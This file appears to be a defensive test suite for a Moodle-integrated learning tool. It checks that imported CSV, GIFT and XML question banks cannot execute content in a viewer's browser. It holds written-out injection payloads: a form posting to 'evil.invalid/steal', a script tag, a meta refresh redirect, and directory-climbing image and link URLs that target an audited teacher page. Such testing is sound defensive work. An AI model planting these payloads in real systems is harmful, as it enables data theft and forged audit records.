import { expect } from 'chai';
import type { Page } from 'playwright-core';
import { MoodleSim } from '../platform';
import { launch, type LaunchResult } from '../support/http-browser';
import { testDialects, type TestDatabase } from '../support/db';
import { registerTool, startTool, type RunningTool } from '../support/tool';
import { csrfField } from '../support/csrf';
import { chromiumAvailable, openChromium, type OpenBrowser } from '../support/chromium';
import { placeActivity } from '../practice/support';

/** A multipart/form-data body, as a browser posts the upload form. */
function multipart(fields: Record<string, string>, file: { name: string; content: string }): { body: string; type: string } {
  const boundary = '----jejakInjectionBoundary';
  const parts = Object.entries(fields).map(([k, v]) => `--${boundary}\r\nContent-Disposition: form-data; name="${k}"\r\n\r\n${v}\r\n`);
  parts.push(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${file.name}"\r\nContent-Type: application/octet-stream\r\n\r\n${file.content}\r\n`);
  return { body: `${parts.join('')}--${boundary}--\r\n`, type: `multipart/form-data; boundary=${boundary}` };
}

const EVIL = 'http://evil.invalid';
/** What was found in an imported accepted answer: a form Jejak's own auto-post script submits, and a refresh elsewhere. */
const ANSWER = `<form action="${EVIL}/steal" method="post"><input name="x" value="1"></form><script src="/static/autopost.js"></script><meta http-equiv="refresh" content="0;url=${EVIL}/">`;

/**
 * Relative URLs that climb to a page writing an audit row ("teacher viewed student") when the viewer's
 * browser sends the session's GET: as a bank image (`asset:`, `@@PLUGINFILE@@`), a plain image and a link.
 */
function climbing(target: string): { html: string; xml: string } {
  const html = `<img src="asset:../../../${target}" alt="a"> <img src="../../../../${target}" alt="b"> <a href="../../../../${target}">lihat</a>`;
  return { html, xml: `<img src="@@PLUGINFILE@@/../../../${target}" alt="c"> ${html}` };
}

function files(target: string): { name: string; content: string }[] {
  const c = climbing(target);
  const gift = (s: string) => s.replace(/[=~#{}:]/g, (m) => `\\${m}`);
  return [
    {
      name: 'payload.csv',
      content: `skill,kind,stem,answer,feedback\nPecahan,shortanswer,"Tulis setengah ${c.html.replace(/"/g, '""')}","${ANSWER.replace(/"/g, '""')}","${c.html.replace(/"/g, '""')}"\n`,
    },
    {
      name: 'payload.gift',
      content: `$CATEGORY: Pecahan\n\n::gift payload::[html]<p>Tulis setengah ${gift(c.html)}</p>{=${gift(ANSWER)}#${gift(c.html)}}\n`,
    },
    {
      name: 'payload.xml',
      content: `<?xml version="1.0" encoding="UTF-8"?>\n<quiz>\n<question type="category"><category><text>$course$/top/Pecahan</text></category></question>\n`
        + `<question type="shortanswer"><name><text>xml payload</text></name>\n`
        + `<questiontext format="html"><text><![CDATA[<p>Tulis setengah ${c.xml}</p>]]></text></questiontext>\n`
        + `<generalfeedback format="html"><text><![CDATA[${c.xml}]]></text></generalfeedback>\n`
        + `<answer fraction="100"><text><![CDATA[${ANSWER}]]></text><feedback format="html"><text><![CDATA[${c.xml}]]></text></feedback></answer>\n`
        + `</question>\n</quiz>\n`,
    },
  ];
}

const [sqlite] = testDialects();
describe('bank content cannot act in a viewer\'s browser (Moodle XML, GIFT, CSV)', function () {
  this.timeout(240_000);
  let tdb: TestDatabase;
  let tool: RunningTool;
  let sim: MoodleSim;
  let browser: OpenBrowser;
  let clientId: string;
  let seeded: ReturnType<MoodleSim['seedDefault']>;
  let teacher: LaunchResult;
  const banks: { name: string; bankId: number; itemId: number; skills: number[] }[] = [];

  before(async function () {
    if (!chromiumAvailable()) return this.skip();
    tdb = await sqlite!.create();
    tool = await startTool(tdb);
    sim = await MoodleSim.start();
    clientId = await registerTool(sim, tool);
    seeded = sim.seedDefault();
    const setup = sim.addActivity({ courseId: seeded.course.id, clientId, title: 'Setup' });
    teacher = await launch(sim, { clientId, userId: seeded.teacher.id, courseId: seeded.course.id, activityId: setup, locale: 'en' });
    const home = teacher.final.url.replace(/\/s\/([^/?]+).*$/, '/s/$1/');
    // The payloads aim at the first activity's page about the first student: it audits every view.
    const target = `teacher/activities/1/students/${encodeURIComponent(seeded.students[0]!.id)}`;
    const db = tool.jejak.conn.db;
    for (const file of files(target)) {
      const { body, type } = multipart({ language: 'id', title: file.name }, file);
      const action = new URL(`content/banks/import?_csrf=${csrfField(tool, home)._csrf}`, home).toString();
      const done = await teacher.browser.request('POST', action, { body, headers: { 'content-type': type }, context: { ...teacher.context, initiator: action } });
      expect(done.status, `${file.name}: ${done.body.slice(0, 2000)}`).to.equal(200);
      const bankId = Number(/\/content\/banks\/(\d+)\?imported=1$/.exec(done.url)![1]);
      const item = await db.selectFrom('item').select(['id', 'body']).where('bank_id', '=', bankId).executeTakeFirstOrThrow();
      // What was stored: no climbing image or relative link survived the import.
      expect(item.body, file.name).to.not.match(/(?:src|href)=\\"(?:asset:)?\./);
      const skills = (await db.selectFrom('skill').select('id').where('bank_id', '=', bankId).execute()).map((s) => s.id);
      banks.push({ name: file.name, bankId, itemId: item.id, skills });
    }
    for (const b of banks) {
      await placeActivity(sim, clientId, seeded.course.id, seeded.teacher.id, { bankId: b.bankId, skills: b.skills, answers: new Map() }, { title: b.name });
    }
    expect(await db.selectFrom('activity').select('id').where('id', '=', 1).executeTakeFirst()).to.not.equal(undefined);
    browser = await openChromium();
  });
  after(async () => {
    await browser?.close();
    await sim?.close();
    await tool?.close();
    await tdb?.drop();
  });

  const auditRows = async () => Number((await tool.jejak.conn.db.selectFrom('audit_event').select((e) => e.fn.countAll<number>().as('n')).executeTakeFirstOrThrow()).n);

  /** Opens a page, lets anything it would do happen, and returns every request it made and what its document holds. */
  async function visit(page: Page, open: () => Promise<void>) {
    const requests: string[] = [];
    page.on('request', (r) => requests.push(r.url()));
    await open();
    await page.waitForTimeout(1500);
    const frames = page.frames();
    const found = { forms: 0, metas: 0, bankScripts: 0, climbing: 0 };
    for (const f of frames) {
      const counts = await f.evaluate(() => ({
        forms: Array.from(document.querySelectorAll('main form')).filter((x) => (x as HTMLFormElement).action.includes('evil')).length,
        metas: document.querySelectorAll('meta[http-equiv]').length,
        bankScripts: document.querySelectorAll('main script').length,
        climbing: Array.from(document.querySelectorAll('main img[src], main a[href]')).filter((x) => /\/teacher\//.test((x as HTMLImageElement).src || (x as HTMLAnchorElement).href)).length,
      })).catch(() => ({ forms: 0, metas: 0, bankScripts: 0, climbing: 0 }));
      for (const k of Object.keys(found) as (keyof typeof found)[]) found[k] += counts[k];
    }
    return { requests, found, urls: frames.map((f) => f.url()) };
  }

  it('the teacher\'s item preview: no form, refresh, script, outside or climbing request, no audit row', async function () {
    if (!chromiumAvailable()) return this.skip();
    const sid = /\/s\/([^/]+)\//.exec(teacher.final.url)![1]!;
    await tool.jejak.conn.db.updateTable('launch_session').set({ binding: null }).where('id', '=', sid).execute();
    for (const b of banks) {
      const before = await auditRows();
      const page = await browser.context.newPage();
      const url = `${tool.url}/s/${sid}/content/banks/${b.bankId}/items/${b.itemId}`;
      const seen = await visit(page, async () => {
        await page.goto(url);
      });
      // The payload is shown as text, and nothing of it acts.
      expect(await page.locator('main').innerText(), b.name).to.contain('autopost.js');
      expect(seen.found, b.name).to.deep.equal({ forms: 0, metas: 0, bankScripts: 0, climbing: 0 });
      expect(page.url(), b.name).to.equal(url);
      expect(seen.requests.filter((u) => u.startsWith(EVIL) || u.includes('/teacher/')), b.name).to.deep.equal([]);
      expect(seen.requests.filter((u) => !u.startsWith(`${tool.url}/static/`)), b.name).to.deep.equal([url]);
      expect(await auditRows(), b.name).to.equal(before);
      await page.close();
    }
  });

  it('the student\'s item page inside the course: the same', async function () {
    if (!chromiumAvailable()) return this.skip();
    const links = sim.deepLinkResponses.slice(-banks.length).map((r) => r.activityIds[0]!);
    for (const [i, b] of banks.entries()) {
      const before = await auditRows();
      const page = await browser.context.newPage();
      const seen = await visit(page, async () => {
        await page.goto(sim.launchPageUrl({ clientId, userId: seeded.students[1]!.id, courseId: seeded.course.id, activityId: links[i]!, presentation: 'iframe', locale: 'id' }));
        const deadline = Date.now() + 15_000;
        while (!page.frames().some((f) => f.url().startsWith(tool.url) && f.url().includes('/s/')) && Date.now() < deadline) await page.waitForTimeout(100);
      });
      const frame = page.frames().find((f) => f.url().startsWith(`${tool.url}/s/`));
      expect(frame, `${b.name}: ${seen.urls.join(', ')}`).to.not.equal(undefined);
      await frame!.waitForSelector('text=Tulis setengah');
      expect(seen.found, b.name).to.deep.equal({ forms: 0, metas: 0, bankScripts: 0, climbing: 0 });
      expect(seen.requests.filter((u) => u.startsWith(EVIL) || u.includes('/teacher/')), b.name).to.deep.equal([]);
      expect(await auditRows(), b.name).to.equal(before);
      await page.close();
    }
  });
});
